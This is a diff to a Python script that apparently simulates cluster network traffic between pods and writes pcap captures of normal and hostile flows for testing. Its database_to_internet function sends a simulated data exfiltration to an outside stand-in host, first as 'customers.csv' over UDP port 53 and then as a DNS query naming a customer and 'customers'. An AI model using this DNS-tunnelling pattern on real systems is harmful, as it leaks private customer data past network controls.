@@ -151,12 +151,16 @@ def dns(started):
         server.sendto(answer, client)
 
 
-def resolve(name):
-    labels = [name, "shop", "svc", "cluster", "local"]
+def ask_dns(server, *labels):
     question = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
     client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     client.settimeout(2)
-    client.sendto(struct.pack("!HHHHHH", 0x5A54, 0x0100, 1, 0, 0, 0) + question + struct.pack("!HH", 1, 1), ("10.96.0.10", 53))
+    client.sendto(struct.pack("!HHHHHH", 0x5A54, 0x0100, 1, 0, 0, 0) + question + struct.pack("!HH", 1, 1), (server, 53))
+    return client
+
+
+def resolve(name):
+    client = ask_dns("10.96.0.10", name, "shop", "svc", "cluster", "local")
     return socket.inet_ntoa(client.recv(512)[-4:])
 
 
@@ -211,8 +215,7 @@ def frontend_to_database():
 
 
 def database_to_internet():
-    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    client.sendto(b"customers.csv", ("198.51.100.23", 53))
+    ask_dns("198.51.100.23", "alice-4711", "customers", "example", "net").close()
     return try_to_reach("198.51.100.23", 443)
 
 
@@ -253,14 +256,19 @@ def capture(folder, name, pod, work):
     for _, _, process in watchers:
         process.terminate()
         process.wait()
-    for direction, suffix in (("out", ""), ("in", ".delivered")):
-        merged = sorted(record for way, path, _ in watchers if way == direction for record in records(path))
-        with open(os.path.join(folder, f"{name}{suffix}.pcap"), "wb") as handle:
-            handle.write(struct.pack("<IHHiIII", 0xA1B23C4D, 2, 4, 0, 0, 262144, 1))
-            for _, record in merged:
-                handle.write(record)
+    sent = [record for direction, path, _ in watchers if direction == "out" for record in records(path)]
+    delivered = [record for direction, path, _ in watchers if direction == "in" for record in records(path)]
+    write(folder, name, sent)
     for _, path, _ in watchers:
         os.remove(path)
+    return delivered
+
+
+def write(folder, name, frames):
+    with open(os.path.join(folder, name + ".pcap"), "wb") as handle:
+        handle.write(struct.pack("<IHHiIII", 0xA1B23C4D, 2, 4, 0, 0, 262144, 1))
+        for _, record in sorted(frames):
+            handle.write(record)
 
 
 def main():
@@ -277,10 +285,11 @@ def main():
         serve("frontend", answer_all(
             "10.244.1.10", 8080,
             lambda query: b"HTTP/1.1 200 OK\r\n\r\n" + ask(resolve("backend"), 8080, b"GET /cart")[6:] + b" items"))
-        capture(folder, "request", "ingress", request)
-        capture(folder, "unknown-to-database", "attacker", unknown_to_database)
-        capture(folder, "frontend-to-database", "frontend", frontend_to_database)
-        capture(folder, "database-to-internet", "database", database_to_internet)
+        delivered = capture(folder, "request", "ingress", request)
+        delivered += capture(folder, "unknown-to-database", "attacker", unknown_to_database)
+        delivered += capture(folder, "frontend-to-database", "frontend", frontend_to_database)
+        delivered += capture(folder, "database-to-internet", "database", database_to_internet)
+        write(folder, "delivered", delivered)
     finally:
         destroy()
 
